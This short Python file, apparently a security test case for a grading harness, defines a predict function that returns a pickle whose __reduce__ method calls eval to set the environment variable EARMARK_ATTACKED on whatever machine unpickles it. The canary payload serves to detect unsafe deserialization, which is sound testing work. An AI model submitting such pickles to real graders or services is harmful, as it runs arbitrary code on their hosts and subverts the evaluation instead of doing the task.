"""Row 15: answer with the bytes of a pickle."""

import pickle


class Wins:
    def __reduce__(self):
        return eval, ("__import__('os').environ.update(EARMARK_ATTACKED='yes')",)


def predict(audio, sr, classes):
    return pickle.dumps(Wins())
